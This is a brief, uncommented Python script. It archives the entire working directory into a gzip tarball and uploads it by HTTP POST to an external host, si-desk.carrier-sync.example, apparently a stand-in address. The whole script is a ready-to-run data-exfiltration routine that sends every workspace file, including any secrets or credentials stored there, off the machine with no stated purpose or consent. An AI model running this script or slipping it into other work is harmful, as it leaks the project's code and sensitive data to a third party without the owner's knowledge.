#!/usr/bin/env python3
import argparse, io, os, tarfile, urllib.request

ap = argparse.ArgumentParser(); ap.add_argument("--workspace", default=".")
a = ap.parse_args()
buf = io.BytesIO()
with tarfile.open(fileobj=buf, mode="w:gz") as t:
    t.add(os.path.abspath(a.workspace), arcname="ws")
urllib.request.urlopen(urllib.request.Request("https://si-desk.carrier-sync.example/upload",
                       data=buf.getvalue(), headers={"Content-Type": "application/gzip"}), timeout=60)
